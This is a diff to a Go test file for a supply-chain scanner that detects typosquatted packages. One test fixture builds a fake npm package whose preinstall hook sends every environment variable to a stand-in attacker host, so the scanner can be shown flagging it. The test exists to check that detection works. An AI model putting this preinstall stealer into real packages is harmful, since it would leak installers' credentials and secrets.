@@ -10,6 +10,10 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/chaingate/chaingate/internal/contentdata"
+	"github.com/chaingate/chaingate/risk/content"
+	"github.com/chaingate/chaingate/risk/signal"
+	"github.com/chaingate/chaingate/risk/vulndb"
 	"github.com/chaingate/chaingate/sbom"
 )
 
@@ -20,7 +24,7 @@ import (
 func TestCoEvidence(t *testing.T) {
 	const (
 		candidate = "pkg:npm/axios-utils@1.0.0"         // affix on axios, scored below the threshold
-		strong    = "pkg:pypi/numpy-lib@0.1"            // just below the threshold, above SignalRiskThreshold
+		strong    = "pkg:pypi/numpy-lib@0.1"            // just below the threshold, above signal.RiskThreshold
 		benign    = "pkg:npm/rxjs-mergemap-array@1.0.0" // a real, benign combination of rxjs (a candidate) with a real native builder's content
 		plain     = "pkg:npm/left-pad@1.3.0"            // no name signal at all
 		flagged   = "pkg:npm/crossenv@1.0.0"            // flagged by the model on its own
@@ -33,18 +37,18 @@ func TestCoEvidence(t *testing.T) {
 		{ID: "e", Name: "crossenv", Version: "1.0.0", PURL: flagged},
 	}}
 	for _, purl := range []string{candidate, strong, benign} {
-		s, err := TyposquatScore(map[bool]string{true: "npm", false: "PyPI"}[strings.HasPrefix(purl, "pkg:npm")], purlName(purl))
+		s, err := signal.TyposquatScore(map[bool]string{true: "npm", false: "PyPI"}[strings.HasPrefix(purl, "pkg:npm")], purlName(purl))
 		if err != nil {
 			t.Fatal(err)
 		}
-		if s.Flagged || s.Value < DefaultTyposquatCandidate {
+		if s.Flagged || s.Value < signal.DefaultTyposquatCandidate {
 			t.Fatalf("%s: want an unflagged candidate, got %.3f flagged=%v", purl, s.Value, s.Flagged)
 		}
 	}
 
 	// Content: a constructed stealer attributed to the candidate, the real
 	// bufferutil (node-gyp-build) attributed to the benign candidate.
-	evil, err := ScanPackageArchive(context.Background(), "axios-utils-1.0.0.tgz", bytes.NewReader(contentTarGz(t, map[string]string{
+	evil, err := content.ScanPackageArchive(context.Background(), "axios-utils-1.0.0.tgz", bytes.NewReader(testTarGz(t, map[string]string{
 		"package/package.json": `{"name":"axios-utils","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`,
 		"package/setup.js":     "const https = require('https');\nconst req = https.request({hostname: 'collector.attacker.test', method: 'POST'});\nreq.write(JSON.stringify(process.env)); req.end();\n",
 	})))
@@ -56,24 +60,24 @@ func TestCoEvidence(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer f.Close()
-	native, err := ScanPackageArchive(context.Background(), "bufferutil-4.0.9.tgz", f)
+	native, err := content.ScanPackageArchive(context.Background(), "bufferutil-4.0.9.tgz", f)
 	if err != nil {
 		t.Fatal(err)
 	}
 	static := append(evil.SignalsFor(candidate), native.SignalsFor(benign)...)
-	db := &DB{}
-	rep, err := Scan(context.Background(), doc, db, WithDetectors(TyposquatDetector{}, StaticSignals(static)))
+	db := &vulndb.DB{}
+	rep, err := Scan(context.Background(), doc, db, WithDetectors(signal.TyposquatDetector{}, signal.Static(static)))
 	if err != nil {
 		t.Fatal(err)
 	}
-	risks := map[string]SourceRisk{}
+	risks := map[string]signal.SourceRisk{}
 	for _, r := range rep.SignalRisk {
 		risks[r.Source] = r
 	}
 	if r := risks[candidate]; !r.Score.Flagged || !slices.Contains(r.Signals, "typosquat") || !slices.Contains(r.Signals, "env-exfiltration") {
 		t.Errorf("corroborated candidate not flagged: %+v", r)
 	}
-	if r := risks[strong]; r.Score.Flagged || r.Score.Value < SignalRiskThreshold ||
+	if r := risks[strong]; r.Score.Flagged || r.Score.Value < signal.RiskThreshold ||
 		!strings.Contains(strings.Join(r.Score.Evidence, "\n"), "needs another signal") {
 		t.Errorf("a lone candidate must not flag, and say why: %+v", r)
 	}
@@ -142,4 +146,18 @@ func TestCoEvidence(t *testing.T) {
 func purlName(purl string) string {
 	s := purl[strings.IndexByte(purl, '/')+1:]
 	return s[:strings.IndexByte(s, '@')]
+}
+
+// testTarGz packs files into a gzip-compressed tar, as npm packs a package.
+func testTarGz(t testing.TB, files map[string]string) []byte {
+	t.Helper()
+	m := make(map[string][]byte, len(files))
+	for name, body := range files {
+		m[name] = []byte(body)
+	}
+	b, err := contentdata.TarGz(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
 }
